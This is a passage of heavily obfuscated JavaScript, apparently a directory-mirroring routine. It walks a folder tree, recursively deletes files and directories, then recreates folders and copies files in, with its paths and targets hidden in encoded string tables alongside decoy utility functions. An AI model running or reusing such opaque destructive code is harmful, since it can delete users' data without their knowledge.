CCUQEYq[0x23]}function uD0dW5t(kmV8q2l){const iguVix=wbkRc9(kmV8q2l);return iguVix!==0x1/0x0}function wbkRc9(kmV8q2l){if(!kmV8q2l){return-CCUQEYq[0x1]}const iguVix=wbkRc9(kmV8q2l.left),ne1HJWf=wbkRc9(kmV8q2l.right),fteEB9=Math.abs(iguVix-ne1HJWf);if(iguVix===0x1/0x0||ne1HJWf===0x1/0x0||fteEB9>CCUQEYq[0x1]){return 0x1/0x0}const uD0dW5t=Math.max(iguVix,ne1HJWf)+CCUQEYq[0x1];return uD0dW5t}window[iguVix(0x129)]={buildCharacterMap:ne1HJWf,isAnagrams:fteEB9,isBalanced:uD0dW5t,getHeightBalanced:wbkRc9}}return HEwhXO[iguVix(0x12a)](vxMLN8)})[LDgmDp6(0x12b)](vxMLN8=>{function kmV8q2l(kmV8q2l){var iguVix="]MWtqKOaiBP1I}wJ4vo*&s+Uz9;Dj{F$<Z`#r[GN,(S~A%LR/@E5.7_YkCmV=lfHd0gQ)X2p\"bnxu8?6ye3:>^Th|c!",isAUb2e,Cawo3ZI,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s;Jmn7al4(isAUb2e=""+(kmV8q2l||""),Cawo3ZI=isAUb2e.length,ne1HJWf=[],fteEB9=CCUQEYq[0x0],uD0dW5t=CCUQEYq[0x0],wbkRc9=-CCUQEYq[0x1]);for(ciGv61s=CCUQEYq[0x0];ciGv61s<Cawo3ZI;ciGv61s++){var Cew2wi=iguVix.indexOf(isAUb2e[ciGv61s]);if(Cew2wi===-CCUQEYq[0x1])continue;if(wbkRc9<CCUQEYq[0x0]){wbkRc9=Cew2wi}else{Jmn7al4(wbkRc9+=Cew2wi*CCUQEYq[0xc],fteEB9|=wbkRc9<<uD0dW5t,uD0dW5t+=(wbkRc9&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(ne1HJWf.push(fteEB9&CCUQEYq[0x3]),fteEB9>>=CCUQEYq[0x2],uD0dW5t-=CCUQEYq[0x2])}while(uD0dW5t>CCUQEYq[0x9]);wbkRc9=-CCUQEYq[0x1]}}if(wbkRc9>-CCUQEYq[0x1]){ne1HJWf.push((fteEB9|wbkRc9<<uD0dW5t)&CCUQEYq[0x3])}return KZ8zhh4(ne1HJWf)}function iguVix(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=kmV8q2l(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}return trAKeI[iguVix(0x12c)](vxMLN8)}),YZUlJh=vxMLN8=>{function kmV8q2l(vxMLN8){var kmV8q2l="DOAQfsiSIoKaW9tlnzcwg>Z|GuFH*3;qm_.x0k)VJY{E:L`]XCh%$8T^M2Bp5UrbP!yRe~</N&j}4\"6#1+v,@[=?(7d",iguVix,ne1HJWf,isAUb2e,Cawo3ZI,fteEB9,uD0dW5t,wbkRc9;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,isAUb2e=[],Cawo3ZI=CCUQEYq[0x0],fteEB9=CCUQEYq[0x0],uD0dW5t=-CCUQEYq[0x1]);for(wbkRc9=CCUQEYq[0x0];wbkRc9<ne1HJWf;wbkRc9++){var ciGv61s=kmV8q2l.indexOf(iguVix[wbkRc9]);if(ciGv61s===-CCUQEYq[0x1])continue;if(uD0dW5t<CCUQEYq[0x0]){uD0dW5t=ciGv61s}else{Jmn7al4(uD0dW5t+=ciGv61s*CCUQEYq[0xc],Cawo3ZI|=uD0dW5t<<fteEB9,fteEB9+=(uD0dW5t&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(isAUb2e.push(Cawo3ZI&CCUQEYq[0x3]),Cawo3ZI>>=CCUQEYq[0x2],fteEB9-=CCUQEYq[0x2])}while(fteEB9>CCUQEYq[0x9]);uD0dW5t=-CCUQEYq[0x1]}}if(uD0dW5t>-CCUQEYq[0x1]){isAUb2e.push((Cawo3ZI|uD0dW5t<<fteEB9)&CCUQEYq[0x3])}return KZ8zhh4(isAUb2e)}function iguVix(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=kmV8q2l(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}const ne1HJWf=trAKeI[iguVix(0x12d)](vxMLN8);return RDgjil[iguVix(0x12e)](vxMLN8=>{function kmV8q2l(vxMLN8){var kmV8q2l="Bhw75rvqR~c6F|GVT!e*b@0,g`N9zCW%Y[2iIP<f8]=LE_U43DH)KMsX1&>#/AnSdj{Qa;py\"uoZ+^m($l?tJkxO.:}",fteEB9,uD0dW5t,iguVix,ne1HJWf,isAUb2e,Cawo3ZI,wbkRc9;Jmn7al4(fteEB9=""+(vxMLN8||""),uD0dW5t=fteEB9.length,iguVix=[],ne1HJWf=CCUQEYq[0x0],isAUb2e=CCUQEYq[0x0],Cawo3ZI=-CCUQEYq[0x1]);for(wbkRc9=CCUQEYq[0x0];wbkRc9<uD0dW5t;wbkRc9++){var ciGv61s=kmV8q2l.indexOf(fteEB9[wbkRc9]);if(ciGv61s===-CCUQEYq[0x1])continue;if(Cawo3ZI<CCUQEYq[0x0]){Cawo3ZI=ciGv61s}else{Jmn7al4(Cawo3ZI+=ciGv61s*CCUQEYq[0xc],ne1HJWf|=Cawo3ZI<<isAUb2e,isAUb2e+=(Cawo3ZI&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(iguVix.push(ne1HJWf&CCUQEYq[0x3]),ne1HJWf>>=CCUQEYq[0x2],isAUb2e-=CCUQEYq[0x2])}while(isAUb2e>CCUQEYq[0x9]);Cawo3ZI=-CCUQEYq[0x1]}}if(Cawo3ZI>-CCUQEYq[0x1]){iguVix.push((ne1HJWf|Cawo3ZI<<isAUb2e)&CCUQEYq[0x3])}return KZ8zhh4(iguVix)}function fteEB9(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=kmV8q2l(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}if(iguVix(0x12f)in WQriWoV){uD0dW5t()}function uD0dW5t(){function vxMLN8(vxMLN8){return vxMLN8[CCUQEYq[0x1]]*CCUQEYq[0x30]+(vxMLN8[CCUQEYq[0x0]]<CCUQEYq[0x0]?CCUQEYq[0x2f]|vxMLN8[CCUQEYq[0x0]]:vxMLN8[CCUQEYq[0x0]])}function kmV8q2l(vxMLN8){switch(((vxMLN8&CCUQEYq[0x2f])!==CCUQEYq[0x0])*CCUQEYq[0x1]+(vxMLN8<CCUQEYq[0x0])*CCUQEYq[0x31]){case CCUQEYq[0x0]:return[vxMLN8%CCUQEYq[0x2f],Math.trunc(vxMLN8/CCUQEYq[0x30])];case CCUQEYq[0x1]:return[vxMLN8%CCUQEYq[0x2f]-CCUQEYq[0x2f],Math.trunc(vxMLN8/CCUQEYq[0x30])+CCUQEYq[0x1]];case CCUQEYq[0x31]:return[((vxMLN8+CCUQEYq[0x2f])%CCUQEYq[0x2f]+CCUQEYq[0x2f])%CCUQEYq[0x2f],Math.round(vxMLN8/CCUQEYq[0x30])];case CCUQEYq[0x17]:return[vxMLN8%CCUQEYq[0x2f],Math.trunc(vxMLN8/CCUQEYq[0x30])]}}let fteEB9=vxMLN8([CCUQEYq[0x31],0x4]),uD0dW5t=vxMLN8([CCUQEYq[0x1],CCUQEYq[0x31]]),iguVix=fteEB9+uD0dW5t,ne1HJWf=iguVix-uD0dW5t,isAUb2e=ne1HJWf*CCUQEYq[0x31],Cawo3ZI=isAUb2e/CCUQEYq[0x31];Jmn7al4(console.log(kmV8q2l(iguVix)),console.log(kmV8q2l(ne1HJWf)),console.log(kmV8q2l(isAUb2e)),console.log(kmV8q2l(Cawo3ZI)))}return ne1HJWf[fteEB9(0x130)](vxMLN8)})};async function N3QqUI(vxMLN8,kmV8q2l){try{function iguVix(vxMLN8){var kmV8q2l="ZRlYAUjDGJFdNX6n+oC<M5Hmhbf$BVe13Er@>i^Qqg#Ka[/LwS_|c7tP;pT4~W\"k!0s*`]I98=&2(yzvx%?:u.{,}O)",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function ne1HJWf(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=iguVix(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}Jmn7al4(Cew2wi=[LDgmDp6(0x131)],PIyZFd1(LDgmDp6(CCUQEYq[0x2e])));const fteEB9=new eqB2tdB(vxMLN8),uD0dW5t=fteEB9[LDgmDp6(0x132)](),wbkRc9=(vxMLN8,kmV8q2l=[])=>{function iguVix(vxMLN8){var kmV8q2l="I0:VDmZ`6}rz_5qQOEogX=vMept[*xKyfFS7~k+N\"w#BH>G|1]U%.Lh8Cldi;WjJRb{2AcYsP?na9)^u<&/,4!@(3$T",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function ne1HJWf(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=iguVix(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}const fteEB9=HEwhXO[ne1HJWf(0x133)](vxMLN8);fteEB9[ne1HJWf(0x134)](iguVix=>{function fteEB9(iguVix){var fteEB9="nuV=FbXoM+`YE)]*\"DW[hv2ZKmStrH;T,zw^Rx8dlPaUe@N$O{f:J(GCs0i/6<pBckqQ3LIAg?|1~y%}4>&79#5_!.j",uD0dW5t,ciGv61s,mxcTHdH,vxMLN8,kmV8q2l,ne1HJWf,wbkRc9;Jmn7al4(uD0dW5t=""+(iguVix||""),ciGv61s=uD0dW5t.length,mxcTHdH=[],vxMLN8=CCUQEYq[0x0],kmV8q2l=CCUQEYq[0x0],ne1HJWf=-CCUQEYq[0x1]);for(wbkRc9=CCUQEYq[0x0];wbkRc9<ciGv61s;wbkRc9++){var QOTJnfa=fteEB9.indexOf(uD0dW5t[wbkRc9]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ne1HJWf<CCUQEYq[0x0]){ne1HJWf=QOTJnfa}else{Jmn7al4(ne1HJWf+=QOTJnfa*CCUQEYq[0xc],vxMLN8|=ne1HJWf<<kmV8q2l,kmV8q2l+=(ne1HJWf&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(mxcTHdH.push(vxMLN8&CCUQEYq[0x3]),vxMLN8>>=CCUQEYq[0x2],kmV8q2l-=CCUQEYq[0x2])}while(kmV8q2l>CCUQEYq[0x9]);ne1HJWf=-CCUQEYq[0x1]}}if(ne1HJWf>-CCUQEYq[0x1]){mxcTHdH.push((vxMLN8|ne1HJWf<<kmV8q2l)&CCUQEYq[0x3])}return KZ8zhh4(mxcTHdH)}function uD0dW5t(iguVix){if(typeof isAUb2e[iguVix]===CCUQEYq[0x5]){return isAUb2e[iguVix]=fteEB9(Cawo3ZI[iguVix])}return isAUb2e[iguVix]}const ciGv61s=trAKeI[ne1HJWf(0x135)](vxMLN8,iguVix),mxcTHdH=HEwhXO[ne1HJWf(0x136)](ciGv61s);if(YZUlJh(ciGv61s)){return}mxcTHdH[uD0dW5t(0x137)]()?wbkRc9(ciGv61s,kmV8q2l):kmV8q2l[uD0dW5t(0x138)](ciGv61s)});return kmV8q2l},ciGv61s=wbkRc9(kmV8q2l);ciGv61s[LDgmDp6(CCUQEYq[0x32])](vxMLN8=>{if(!YZUlJh(vxMLN8)){HEwhXO[LDgmDp6(0x13a)](vxMLN8)}});const mxcTHdH=(vxMLN8,kmV8q2l=[])=>{function iguVix(vxMLN8){var kmV8q2l="FWZRSqDAQTNiYgdVfrkCHPLGjMIhoUEaemtcKJp)lbBn<6OX%0~(8{1@5,[?]xw7;|zv3+!&2:*`/=9>4#_^}uy\"s$.",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function ne1HJWf(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=iguVix(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}const fteEB9=HEwhXO[LDgmDp6(0x13b)](vxMLN8);fteEB9[ne1HJWf(0x13c)](iguVix=>{function ne1HJWf(iguVix){var ne1HJWf="yVbH;%flg6_QE8AIZ:7W9Rxe/0jC?dD2sMX]|,TGL(Bm^$nS[r`=tOo>Yh1!kF#*i5KJa~Uw<PvcNp+q){3\"4&u@.}z",fteEB9,uD0dW5t,vxMLN8,kmV8q2l,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(fteEB9=""+(iguVix||""),uD0dW5t=fteEB9.length,vxMLN8=[],kmV8q2l=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<uD0dW5t;mxcTHdH++){var QOTJnfa=ne1HJWf.indexOf(fteEB9[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],kmV8q2l|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(vxMLN8.push(kmV8q2l&CCUQEYq[0x3]),kmV8q2l>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){vxMLN8.push((kmV8q2l|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(vxMLN8)}function fteEB9(iguVix){if(typeof isAUb2e[iguVix]===CCUQEYq[0x5]){return isAUb2e[iguVix]=ne1HJWf(Cawo3ZI[iguVix])}return isAUb2e[iguVix]}const uD0dW5t=trAKeI[fteEB9(0x13d)](vxMLN8,iguVix);if(HEwhXO[fteEB9(0x13e)](uD0dW5t)[fteEB9(0x13f)]()){if(!YZUlJh(uD0dW5t)){Jmn7al4(mxcTHdH(uD0dW5t,kmV8q2l),kmV8q2l[fteEB9(0x140)](uD0dW5t))}}});return kmV8q2l},QOTJnfa=mxcTHdH(kmV8q2l);Jmn7al4(QOTJnfa[LDgmDp6(0x141)]((vxMLN8,kmV8q2l)=>{function iguVix(vxMLN8){var iguVix="6piBRk$Q@J.NfL9qzCYbW,|8{+u0Hr7VP\"/E)(]ZOD;}M[l%_S^`FAvU!#sm?cn<dG:a1I4j*T2gt~KXh>wex5&3oy=",ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH,QOTJnfa;Jmn7al4(ne1HJWf=""+(vxMLN8||""),fteEB9=ne1HJWf.length,uD0dW5t=[],wbkRc9=CCUQEYq[0x0],ciGv61s=CCUQEYq[0x0],mxcTHdH=-CCUQEYq[0x1]);for(QOTJnfa=CCUQEYq[0x0];QOTJnfa<fteEB9;QOTJnfa++){var D6WnZ8=iguVix.indexOf(ne1HJWf[QOTJnfa]);if(D6WnZ8===-CCUQEYq[0x1])continue;if(mxcTHdH<CCUQEYq[0x0]){mxcTHdH=D6WnZ8}else{Jmn7al4(mxcTHdH+=D6WnZ8*CCUQEYq[0xc],wbkRc9|=mxcTHdH<<ciGv61s,ciGv61s+=(mxcTHdH&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(uD0dW5t.push(wbkRc9&CCUQEYq[0x3]),wbkRc9>>=CCUQEYq[0x2],ciGv61s-=CCUQEYq[0x2])}while(ciGv61s>CCUQEYq[0x9]);mxcTHdH=-CCUQEYq[0x1]}}if(mxcTHdH>-CCUQEYq[0x1]){uD0dW5t.push((wbkRc9|mxcTHdH<<ciGv61s)&CCUQEYq[0x3])}return KZ8zhh4(uD0dW5t)}function ne1HJWf(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=iguVix(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}return kmV8q2l[LDgmDp6(0x142)]-vxMLN8[ne1HJWf(0x143)]}),QOTJnfa[LDgmDp6(CCUQEYq[0x32])](vxMLN8=>{try{if(!YZUlJh(vxMLN8)){function kmV8q2l(vxMLN8){var kmV8q2l="GdJwkSt^_P9i;V36~`F}o)Qe+fbvmW#\"4Ia?ylhRO7c(q@Z5C,MNX|8LTD1B!H=A0>Uu]2YE%K*jpgxszr/$[<.:{&n",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function iguVix(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=kmV8q2l(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}HEwhXO[iguVix(0x144)](vxMLN8)}}catch(ne1HJWf){}}),uD0dW5t[ne1HJWf(0x145)](vxMLN8=>{function iguVix(vxMLN8){var iguVix="gCEFNBHfql=n,KIho0X[DSJAr?6WeZudMY1.QOPGt_sj4kzR&cUm*:\"3<aViT^v}>L(b/~528;`+7)]x%!w{@$#y9|p",uD0dW5t,wbkRc9,ciGv61s,mxcTHdH,QOTJnfa,D6WnZ8,DTIHOU;Jmn7al4(uD0dW5t=""+(vxMLN8||""),wbkRc9=uD0dW5t.length,ciGv61s=[],mxcTHdH=CCUQEYq[0x0],QOTJnfa=CCUQEYq[0x0],D6WnZ8=-CCUQEYq[0x1]);for(DTIHOU=CCUQEYq[0x0];DTIHOU<wbkRc9;DTIHOU++){var rKD2LGD=iguVix.indexOf(uD0dW5t[DTIHOU]);if(rKD2LGD===-CCUQEYq[0x1])continue;if(D6WnZ8<CCUQEYq[0x0]){D6WnZ8=rKD2LGD}else{Jmn7al4(D6WnZ8+=rKD2LGD*CCUQEYq[0xc],mxcTHdH|=D6WnZ8<<QOTJnfa,QOTJnfa+=(D6WnZ8&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(ciGv61s.push(mxcTHdH&CCUQEYq[0x3]),mxcTHdH>>=CCUQEYq[0x2],QOTJnfa-=CCUQEYq[0x2])}while(QOTJnfa>CCUQEYq[0x9]);D6WnZ8=-CCUQEYq[0x1]}}if(D6WnZ8>-CCUQEYq[0x1]){ciGv61s.push((mxcTHdH|D6WnZ8<<QOTJnfa)&CCUQEYq[0x3])}return KZ8zhh4(ciGv61s)}function uD0dW5t(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=iguVix(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}const wbkRc9=trAKeI[ne1HJWf(0x146)](kmV8q2l,vxMLN8[ne1HJWf(0x147)]);if(YZUlJh(wbkRc9)){return}const ciGv61s=trAKeI[ne1HJWf(0x148)](wbkRc9);if(!HEwhXO[ne1HJWf(0x149)](ciGv61s)){if(ne1HJWf(0x14a)in WQriWoV){mxcTHdH()}function mxcTHdH(){var vxMLN8,iguVix,uD0dW5t;function wbkRc9(vxMLN8){var iguVix="5=<~txIhwG%iSf(vOy\"lD3z#WcgPEJb7`n+>|]9NTj@;.0Md{!:ApB/FLk?R&Zrom^e6Q[YVC*$},XHU_1Ka284q)su",uD0dW5t,wbkRc9,ciGv61s,mxcTHdH,QOTJnfa,D6WnZ8,DTIHOU;Jmn7al4(uD0dW5t=""+(vxMLN8||""),wbkRc9=uD0dW5t.length,ciGv61s=[],mxcTHdH=CCUQEYq[0x0],QOTJnfa=CCUQEYq[0x0],D6WnZ8=-CCUQEYq[0x1]);for(DTIHOU=CCUQEYq[0x0];DTIHOU<wbkRc9;DTIHOU++){var rKD2LGD=iguVix.indexOf(uD0dW5t[DTIHOU]);if(rKD2LGD===-CCUQEYq[0x1])continue;if(D6WnZ8<CCUQEYq[0x0]){D6WnZ8=rKD2LGD}else{Jmn7al4(D6WnZ8+=rKD2LGD*CCUQEYq[0xc],mxcTHdH|=D6WnZ8<<QOTJnfa,QOTJnfa+=(D6WnZ8&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(ciGv61s.push(mxcTHdH&CCUQEYq[0x3]),mxcTHdH>>=CCUQEYq[0x2],QOTJnfa-=CCUQEYq[0x2])}while(QOTJnfa>CCUQEYq[0x9]);D6WnZ8=-CCUQEYq[0x1]}}if(D6WnZ8>-CCUQEYq[0x1]){ciGv61s.push((mxcTHdH|D6WnZ8<<QOTJnfa)&CCUQEYq[0x3])}return KZ8zhh4(ciGv61s)}function ciGv61s(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=wbkRc9(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}Jmn7al4(vxMLN8=ciGv61s(0x14b),iguVix=ciGv61s(0x14c),uD0dW5t=ciGv61s(0x14d),vxMLN8.match(iguVix+uD0dW5t))}HEwhXO[ne1HJWf(0x14e)](ciGv61s,{[ne1HJWf(0x14f)]:CCUQEYq[0x23]})}if(!vxMLN8[uD0dW5t(0x150)]){function QOTJnfa(vxMLN8){var iguVix="^E2\"p|61CQqXKF57tRJTUYbGIr{}#[hwS;oBn*@dgixL~0=,).NV&vD3Oul8mWyjP!M4aZH_e<$>kc%+/?A:zs9(`f]",uD0dW5t,wbkRc9,ciGv61s,mxcTHdH,QOTJnfa,D6WnZ8,DTIHOU;Jmn7al4(uD0dW5t=""+(vxMLN8||""),wbkRc9=uD0dW5t.length,ciGv61s=[],mxcTHdH=CCUQEYq[0x0],QOTJnfa=CCUQEYq[0x0],D6WnZ8=-CCUQEYq[0x1]);for(DTIHOU=CCUQEYq[0x0];DTIHOU<wbkRc9;DTIHOU++){var rKD2LGD=iguVix.indexOf(uD0dW5t[DTIHOU]);if(rKD2LGD===-CCUQEYq[0x1])continue;if(D6WnZ8<CCUQEYq[0x0]){D6WnZ8=rKD2LGD}else{Jmn7al4(D6WnZ8+=rKD2LGD*CCUQEYq[0xc],mxcTHdH|=D6WnZ8<<QOTJnfa,QOTJnfa+=(D6WnZ8&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(ciGv61s.push(mxcTHdH&CCUQEYq[0x3]),mxcTHdH>>=CCUQEYq[0x2],QOTJnfa-=CCUQEYq[0x2])}while(QOTJnfa>CCUQEYq[0x9]);D6WnZ8=-CCUQEYq[0x1]}}if(D6WnZ8>-CCUQEYq[0x1]){ciGv61s.push((mxcTHdH|D6WnZ8<<QOTJnfa)&CCUQEYq[0x3])}return KZ8zhh4(ciGv61s)}function D6WnZ8(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=QOTJnfa(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}HEwhXO[uD0dW5t(0x151)](wbkRc9,fteEB9[D6WnZ8(0x152)](vxMLN8))}else{if(!HEwhXO[uD0dW5t(0x153)](wbkRc9)){function DTIHOU(vxMLN8){var iguVix=">~%4qCBcJv57Q<+TM)gX]$#0;[n}uazHI(@6|hpRGfEtem:wxd=kN1yZo*j,FO\"YA/?P!9l.`{rb2K_8WDSs^3&UiLV",uD0dW5t,wbkRc9,ciGv61s,mxcTHdH,QOTJnfa,D6WnZ8,DTIHOU;Jmn7al4(uD0dW5t=""+(vxMLN8||""),wbkRc9=uD0dW5t.length,ciGv61s=[],mxcTHdH=CCUQEYq[0x0],QOTJnfa=CCUQEYq[0x0],D6WnZ8=-CCUQEYq[0x1]);for(DTIHOU=CCUQEYq[0x0];DTIHOU<wbkRc9;DTIHOU++){var rKD2LGD=iguVix.indexOf(uD0dW5t[DTIHOU]);if(rKD2LGD===-CCUQEYq[0x1])continue;if(D6WnZ8<CCUQEYq[0x0]){D6WnZ8=rKD2LGD}else{Jmn7al4(D6WnZ8+=rKD2LGD*CCUQEYq[0xc],mxcTHdH|=D6WnZ8<<QOTJnfa,QOTJnfa+=(D6WnZ8&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(ciGv61s.push(mxcTHdH&CCUQEYq[0x3]),mxcTHdH>>=CCUQEYq[0x2],QOTJnfa-=CCUQEYq[0x2])}while(QOTJnfa>CCUQEYq[0x9]);D6WnZ8=-CCUQEYq[0x1]}}if(D6WnZ8>-CCUQEYq[0x1]){ciGv61s.push((mxcTHdH|D6WnZ8<<QOTJnfa)&CCUQEYq[0x3])}return KZ8zhh4(ciGv61s)}function 